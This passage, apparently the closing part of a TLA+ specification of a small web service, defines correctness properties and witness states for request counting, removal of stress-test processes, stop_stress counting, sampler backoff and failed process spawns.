C11_Witness ==
    /\ \A h \in Handlers : handler[h].pc = "idle"
    /\ \E r \in Runs : Spawning(r)
    /\ \E r \in Runs : RunningRun(r)

\* C12: no increment of requests_total is lost: once the handlers of n
\* counted requests (/, /health, /echo) have returned, requests_total is n.
C12_NoIncrementLost ==
    (\A h \in Handlers : handler[h].pc = "idle")
        => metrics.requests_total = received

\* every started run has ended: removed by its thread, or never recorded
AllRunsEnded ==
    \A r \in Runs : thread[r].pc \in Finished \cup {"unborn"}

\* C13: with no stop_stress request, a recorded run whose process has
\* exited is removed from the list by its thread in the end; and a /status
\* request that reads the list once every started run has ended reports 0
\* active runs.
C13_ExitedRunsRemoved ==
    /\ \A r \in Runs :
           (Contains(current_stress_processes, r) /\ proc[r] = "exited")
               ~> ~Contains(current_stress_processes, r)
    /\ [][\A h \in Handlers :
             (/\ handler[h].pc = "status_body"
              /\ handler'[h].pc = "return"
              /\ AllRunsEnded)
             => handler'[h].reported = 0]_vars

\* C13 witness: /status reports 0 after a run was recorded, counted and,
\* its process having exited, taken off the list by its thread.
C13_Witness ==
    /\ \E h \in Handlers :
           /\ handler[h].route = "status"
           /\ handler[h].pc = "return"
           /\ handler[h].reported = 0
    /\ \E r \in Runs : thread[r].pc = "ok" /\ proc[r] = "exited"
    /\ AllRunsEnded
    /\ current_stress_processes = <<>>

\* C14: stop_stress counts a handle of its snapshot exactly when its
\* process has exited by the end of the wait of up to five seconds, clears
\* the whole list whatever was counted, and reports that count.
C14_StopCountsExited ==
    [][\A h \in Handlers :
          LET s == handler[h].snapshot IN
          /\ (/\ handler[h].pc = "stop_loop"
              /\ s # <<>>
              /\ handler'[h].snapshot = Tail(s))
             => handler'[h].stopped_count =
                    handler[h].stopped_count +
                        (IF proc'[Head(s)] = "exited" THEN 1 ELSE 0)
          /\ (handler[h].pc = "stop_loop" /\ handler'[h].pc = "stop_reset")
             => current_stress_processes' = <<>>
          /\ (handler[h].pc = "stop_reset" /\ handler'[h].pc = "return")
             => handler'[h].reported = handler[h].stopped_count]_vars

\* C14 witness: stop_stress returns a count of 0 after the one run of its
\* snapshot did not exit in time: its process is still alive and its
\* handle is off the list.
C14_Witness ==
    \E h \in Handlers :
        /\ handler[h].route = "stop"
        /\ handler[h].pc = "return"
        /\ handler[h].reported = 0
        /\ handler[h].uncounted = 1
        /\ current_stress_processes = <<>>
        /\ \E r \in Runs : proc[r] = "alive"

\* C15: while the sampler sleeps, the delay is 10 seconds when the last
\* sample failed and 5 seconds when it succeeded.
C15_BackoffAfterFailure ==
    sampler.pc = "sleep"
        => sampler.delay =
               IF sampler.last = "empty" THEN SleepError ELSE SleepOk

\* C16: the steps of a run whose Popen raised an error other than
\* FileNotFoundError, which has added nothing to stress_tests_running,
\* leave stress_tests_running as it was.
C16_FailedSpawnKeepsCount ==
    [][\A r \in Runs :
          (thread'[r].spawn = "OSError" /\ thread'[r] # thread[r])
              => Running' = Running]_vars

====
